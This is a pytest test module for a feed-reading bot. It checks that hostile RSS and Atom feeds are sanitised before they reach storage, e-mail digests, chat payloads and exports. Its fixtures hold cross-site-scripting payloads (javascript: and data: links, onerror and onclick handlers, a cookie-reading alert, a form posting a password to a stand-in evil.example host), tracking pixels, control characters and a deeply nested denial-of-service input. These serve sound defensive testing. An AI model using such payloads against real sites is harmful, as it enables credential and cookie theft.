"""Hostile feeds served on 127.0.0.1, polled for real into SQLite and PostgreSQL, checked where
a reader meets them: the stored items, the digest (e-mail HTML and text, chat payloads) and
the RSS and JSON Lines exports. Nothing a feed sends may act on a reader: no script, no
javascript:/data:/vbscript: link, no handler attribute, no form, no tracking pixel, no
remote image in an e-mail, no control character to break an export, no text lost."""

from __future__ import annotations

import asyncio
import io
import json
import re
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from dataclasses import dataclass, fields
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from lxml import etree
from lxml import html as lxml_html

from bot import export
from bot.archive import Archive
from bot.cli import run
from bot.config import Config, FeedConfig
from bot.models import FeedInfo, Item
from bot.pipeline import PollSummary, poll_cycle, preview_digest
from tests.conftest import PG_URL, _pg_schema
from tests.feedserver import FeedServer, Reply

# Every item's content carries this: each line is something a sanitiser must not let through.
ATTACKS = """
<p>Read <a href="javascript:alert(1)">this</a>, <a href="JaVaScRiPt:alert(1)">that</a>,
<a href="java&#9;script:alert(1)">tabbed</a>,
<a href="data:text/html,&lt;script&gt;x&lt;/script&gt;">data</a>,
<a href="vbscript:msgbox(1)">vb</a>, <a href="file:///etc/passwd">file</a>
and <a href="/about">about</a>.</p>
<img src="https://tracker.example/p.gif?u=42" width="1" height="1">
<img src="https://cdn.example/spacer.png" width="2px" height="2">
<img src="https://pixel.wp.com/g.gif?blog=1&amp;post=2">
<img src="https://mail.example/track/open.php?u=42">
<img src="https://cdn.example/photo.jpg" width="600" height="400" alt="A photo">
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+">
<form action="https://evil.example/steal"><input name="password"><button>Go</button></form>
<svg><a xlink:href="javascript:alert(1)"><text>svg</text></a></svg>
<div onclick="alert(1)" onmouseover="alert(2)">hover</div>
<iframe src="https://evil.example/"></iframe><script>alert(1)</script>
<video src="javascript:alert(1)" poster="javascript:alert(2)"></video>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>
"""


def _rss_links() -> bytes:
    """Plain RSS 2.0 (the lxml fast path): hostile item, comment and channel links."""
    links = [
        ("javascript:alert(document.cookie)", "javascript:alert(2)"),
        ("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", ""),
        ("vbscript:msgbox(1)", "JAVASCRIPT:alert(3)"),
        ("/posts/4", "/posts/4#comments"),
        ("java&#9;script:alert(5)", ""),
    ]
    items = "".join(
        f"<item><title>Link {n} \u0081C1</title><link>{link}</link>"
        + (f"<comments>{comments}</comments>" if comments else "")
        + f"<guid isPermaLink='false'>links-{n}</guid>"
        f"<pubDate>Mon, 0{n + 1} Dec 2025 10:00:00 +0000</pubDate>"
        f"<description>Item {n} about reviews.</description>"
        f"<content:encoded><![CDATA[{ATTACKS}]]></content:encoded></item>"
        for n, (link, comments) in enumerate(links)
    )
    return (
        '<?xml version="1.0" encoding="UTF-8"?><rss version="2.0" '
        'xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel>'
        "<title>Links</title><link>javascript:alert('channel')</link><description>d</description>"
        f"{items}</channel></rss>"
    ).encode()


ATOM = """<?xml version="1.0" encoding="UTF-8"?>
<feed xmlns="http://www.w3.org/2005/Atom" xml:base="https://atom.example/blog/">
<title type="text">Atom &lt;plain&gt; titles</title><id>urn:hostile</id>
<link rel="alternate" href="javascript:alert('channel')"/>
<updated>2025-12-02T10:00:00Z</updated>
<entry><id>urn:a1</id><title type="text">Why &lt;canvas&gt; beats Flash</title>
<link href="posts/canvas"/><updated>2025-12-02T10:00:00Z</updated>
<summary type="text">Use &lt;script&gt;alert(1)&lt;/script&gt; &amp; friends</summary>
<content type="html">&lt;p&gt;Canvas &lt;a href="more"&gt;more&lt;/a&gt;&lt;/p&gt;</content></entry>
<entry xml:base="javascript:alert(1)//"><id>urn:a2</id>
<title type="html">&lt;b&gt;Bold&lt;/b&gt; claim</title><link href="x"/>
<updated>2025-12-01T10:00:00Z</updated>
<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>XHTML
<a href="javascript:alert(1)">j</a> and <a href="rel">rel</a></p></div></content></entry>
<entry><id>urn:a3</id><title type="text">Plain  text   content</title>
<link rel="enclosure" type="image/gif" href="https://tracker.example/t.gif?id=7"/>
<updated>2025-11-30T10:00:00Z</updated>
<content type="text">Line &lt;one&gt; &amp;amp; more

Second paragraph</content></entry>
</feed>
"""

# Raw C0 controls make the XML malformed, so feedparser reads it leniently; &#1; likewise.
CONTROLS = (
    b'<?xml version="1.0" encoding="UTF-8"?><rss version="2.0" '
    b'xmlns:content="http://purl.org/rss/1.0/modules/content/" '
    b'xmlns:dc="http://purl.org/dc/elements/1.1/"><channel>'
    b"<title>Control\x01 feed\x0b</title><link>https://controls.example/</link>"
    b"<description>d\x1b[31m</description>"
    b"<item><title>Bell\x07 and\x01 vertical\x0b tab&#1;</title>"
    b"<link>https://controls.example/1</link><guid>ctl-\x01-1</guid>"
    b"<dc:creator>Ann\x02 Author</dc:creator>"
    b"<description>Escape\x1b[31m red\x0c \xc2\x85next</description>"
    b"<content:encoded><![CDATA[<p>Form\x0cfeed, C1 \xc2\x81 and DEL\x7f.</p>]]>"
    b"</content:encoded></item></channel></rss>"
)


def _deep() -> bytes:
    """100,000 nested <div>: nh3 took about 17 s on this, every poll."""
    nested = "<div>" * 100_000 + "buried" + "</div>" * 100_000
    return (
        '<?xml version="1.0" encoding="UTF-8"?><rss version="2.0" '
        'xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel>'
        "<title>Deep</title><link>https://deep.example/</link><description>d</description>"
        "<item><title>Deep</title><link>https://deep.example/1</link>"
        f"<content:encoded><![CDATA[<p>Intro words.</p>{nested}]]></content:encoded></item>"
        "<item><title>Shallow</title><link>https://deep.example/2</link>"
        "<content:encoded><![CDATA[<p>Ordinary.</p>]]></content:encoded></item>"
        "</channel></rss>"
    ).encode()


FEEDS = {
    "/links.xml": _rss_links(),
    "/atom.xml": ATOM.encode(),
    "/controls.xml": CONTROLS,
    "/deep.xml": _deep(),
}
UNWANTED = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\ud800-\udfff\ufffe\uffff]")
LINK_ATTRIBUTES = ("href", "src", "action", "formaction", "poster", "background", "cite", "data")
ACTIVE = ("script", "form", "input", "button", "iframe", "object", "embed", "svg", "math", "video")


@dataclass(frozen=True)
class Polled:
    archive: Archive
    config: Config
    server: FeedServer
    summary: PollSummary

    def item(self, title: str) -> Item:
        (found,) = [s.item for s in self.archive.items() if s.item.title == title]
        return found


def _archive_url(kind: str, tmp: Path) -> Iterator[str]:
    if kind == "sqlite":
        yield f"sqlite:///{tmp / 'hostile.db'}"
        return
    for schema in _pg_schema():  # dropped when the module is done
        sep = "&" if "?" in PG_URL else "?"
        yield f"{PG_URL}{sep}options=-csearch_path%3D{schema}"


@pytest.fixture(
    scope="module", params=["sqlite", pytest.param("postgresql", marks=pytest.mark.postgres)]
)
def polled(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Polled]:
    """Every hostile feed polled once into an archive of each kind (the module's checks
    read the same archive: a poll cycle starts a sandbox)."""
    for url in _archive_url(request.param, tmp_path_factory.mktemp("hostile")):
        with FeedServer() as server:
            for path, body in FEEDS.items():
                server.routes[path] = lambda h, body=body: Reply(
                    200, body, {"Content-Type": "application/xml"}
                )
            feeds = tuple(
                FeedConfig(
                    id=path.strip("/").split(".")[0], url=server.url(path), allow_private=True
                )
                for path in FEEDS
            )
            config = Config(feeds=feeds)
            archive = Archive(url)
            archive.upgrade()
            summary = asyncio.run(poll_cycle(archive, config, "test-worker"))
            yield Polled(archive, config, server, summary)
            archive.close()


def _is_web_url(value: str) -> bool:
    parts = urlsplit(value)
    return parts.scheme in ("http", "https") and bool(parts.hostname)


def _strings(item: Item) -> dict[str, str]:
    return {f.name: v for f in fields(Item) if isinstance(v := getattr(item, f.name), str)}


def _assert_inert_html(markup: str, *, images: bool) -> None:
    """No element that runs or submits, no handler attribute, every URL http(s); with
    `images` False, no image at all (an e-mail tells no third party it was opened)."""
    assert "<script" not in markup.lower()
    root = lxml_html.fromstring(f"<div>{markup}</div>")
    for el in root.iter():
        if not isinstance(el.tag, str):
            continue
        assert el.tag not in ACTIVE, f"<{el.tag}> in {markup[:200]!r}"
        if not images:
            assert el.tag != "img", "an e-mail carries a remote image"
        for name, value in el.attrib.items():
            assert not name.lower().startswith("on"), f"{name}= on <{el.tag}>"
            if name.lower() in LINK_ATTRIBUTES or name.lower().endswith(":href"):
                assert _is_web_url(value), f'{name}="{value}" on <{el.tag}>'
        assert "url(" not in el.get("style", ""), "a style fetching a remote resource"
    for scheme in ("javascript:", "vbscript:", "data:"):
        assert scheme not in markup.lower(), scheme


def test_every_hostile_feed_is_polled_without_failure(polled: Polled) -> None:
    assert polled.summary.count("failed") == 0
    assert len(polled.archive.items()) == 5 + 3 + 1 + 2


def test_stored_links_are_http_or_nothing(polled: Polled) -> None:
    for stored in polled.archive.items():
        item = stored.item
        for url in (item.link, item.comments_url, item.comments_feed_url, item.image_url):
            assert url == "" or _is_web_url(url), url
    for feed in polled.archive.feeds():
        assert feed.link == "" or _is_web_url(feed.link), feed.link


def test_unsafe_item_links_are_dropped_not_kept(polled: Polled) -> None:
    links = {s.item.guid: s.item.link for s in polled.archive.items()}
    assert [links[f"links-{n}"] for n in (0, 1, 2, 4)] == ["", "", "", ""]


def test_relative_links_resolve_against_the_feed_url(polled: Polled) -> None:
    (stored,) = [s for s in polled.archive.items() if s.item.guid == "links-3"]
    assert stored.item.link == polled.server.url("/posts/4")
    assert stored.item.comments_url == polled.server.url("/posts/4#comments")
    assert f'href="{polled.server.url("/about")}"' in (stored.item.html or "")


def test_xml_base_resolves_links_and_a_javascript_base_is_ignored(polled: Polled) -> None:
    canvas = polled.item("Why <canvas> beats Flash")
    assert canvas.link == "https://atom.example/blog/posts/canvas"
    assert 'href="https://atom.example/blog/more"' in (canvas.html or "")
    bold = polled.item("Bold claim")
    assert bold.link == "" or _is_web_url(bold.link)
    _assert_inert_html(bold.html or "", images=True)


def test_stored_html_keeps_no_active_content(polled: Polled) -> None:
    for stored in polled.archive.items():
        _assert_inert_html(stored.item.html or "", images=True)


def test_tracking_pixels_are_removed_and_real_images_kept(polled: Polled) -> None:
    (stored,) = [s for s in polled.archive.items() if s.item.guid == "links-0"]
    html = stored.item.html or ""
    images = lxml_html.fromstring(f"<div>{html}</div>").findall(".//img")
    sources = {img.get("src") for img in images}
    # what is left: the photo, and the <noscript> trick's image, now harmless (no onerror)
    assert sources == {"https://cdn.example/photo.jpg", polled.server.url("/x")}


def test_tracking_enclosure_is_not_the_items_image(polled: Polled) -> None:
    assert polled.item("Plain text content").image_url == ""


def test_no_control_character_is_stored(polled: Polled) -> None:
    for stored in polled.archive.items():
        for name, value in _strings(stored.item).items():
            assert not UNWANTED.search(value), (name, value)
    for feed in polled.archive.feeds():
        assert not UNWANTED.search(feed.title + feed.description), feed.title


def test_control_characters_leave_the_words(polled: Polled) -> None:
    item = polled.item("Bell and vertical tab")
    assert (item.guid, item.author) == ("ctl--1", "Ann Author")
    assert item.text == "Formfeed, C1 and DEL."
    assert item.summary == "Escape[31m red …next"  # U+0085 is Windows-1252's ellipsis


def test_plain_text_is_taken_literally(polled: Polled) -> None:
    canvas = polled.item("Why <canvas> beats Flash")
    assert canvas.summary == "Use <script>alert(1)</script> & friends"
    plain = polled.item("Plain text content")
    assert plain.text == "Line <one> &amp; more\n\nSecond paragraph"
    assert plain.html is None  # no HTML came: the export rebuilds it from the text
    assert {f.title for f in polled.archive.feeds()} >= {"Atom <plain> titles"}


def test_html_titles_are_still_read_as_html(polled: Polled) -> None:
    assert polled.item("Bold claim").text == "XHTML j and rel"


def test_deeply_nested_html_is_kept_as_text_only(polled: Polled) -> None:
    deep, shallow = polled.item("Deep"), polled.item("Shallow")
    assert deep.html is None and deep.text.startswith("Intro words.")
    assert shallow.html == "<p>Ordinary.</p>"


def test_digest_html_is_inert_and_has_no_remote_image(polled: Polled) -> None:
    body = preview_digest(polled.archive, polled.config, "demo", fmt="html").body
    assert "Why &lt;canvas&gt; beats Flash" in body
    assert "Use &lt;script&gt;alert(1)&lt;/script&gt; &amp; friends" in body
    _assert_inert_html(body, images=False)


def test_digest_text_carries_no_unsafe_link(polled: Polled) -> None:
    body = preview_digest(polled.archive, polled.config, "demo", fmt="text").body
    assert "Why <canvas> beats Flash" in body
    for scheme in ("javascript:", "vbscript:", "data:"):
        assert scheme not in body.lower()


@pytest.mark.parametrize("fmt", ["slack", "discord", "teams", "json"])
def test_chat_payloads_carry_no_unsafe_link(polled: Polled, fmt: str) -> None:
    rendered = preview_digest(polled.archive, polled.config, "demo", fmt=fmt)
    for payload in rendered.payloads:
        json.loads(payload)
        for scheme in ("javascript:", "vbscript:", "data:"):
            assert scheme not in payload.lower(), (fmt, scheme)


def test_rss_export_parses_with_strict_xml_parsers(polled: Polled) -> None:
    out = io.StringIO()
    export.write_rss(polled.archive.items(), FeedInfo(title="Hostile \x01 export"), out)
    data = out.getvalue().encode("utf-8")
    root = etree.fromstring(data, etree.XMLParser(recover=False, resolve_entities=False))
    ET.fromstring(data)  # the standard library's expat is strict too
    assert len(root.findall("channel/item")) == len(polled.archive.items())
    content = "{http://purl.org/rss/1.0/modules/content/}encoded"
    for encoded in root.iter(content):
        _assert_inert_html(encoded.text or "", images=True)
    for link in root.iter("link", "comments"):
        assert _is_web_url(link.text or ""), link.text


def test_jsonl_export_is_valid_json_without_unsafe_links(polled: Polled) -> None:
    out = io.StringIO()
    count = export.write_jsonl(polled.archive.items(), out)
    lines = out.getvalue().encode("utf-8").decode("utf-8").splitlines()
    assert len(lines) == count == len(polled.archive.items())
    for line in lines:
        record = json.loads(line)
        for url in (record["link"], record["comments"]["url"], record["image"]["url"]):
            assert url == "" or _is_web_url(url), url
        assert not UNWANTED.search(json.dumps(record, ensure_ascii=False))


def test_importing_the_deep_feed_says_what_was_left_out(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """`reportbot import` of the same document: the items are archived and the operator is
    told which item lost its HTML and why."""
    path = tmp_path / "deep.xml"
    path.write_bytes(FEEDS["/deep.xml"])
    code = run(["--database", f"sqlite:///{tmp_path / 'a.db'}", "import", str(path)])
    out, err = capsys.readouterr()
    assert code == 0 and "2 new" in out
    assert "item 'Deep': HTML nested more than 200 levels deep; kept as text only" in err
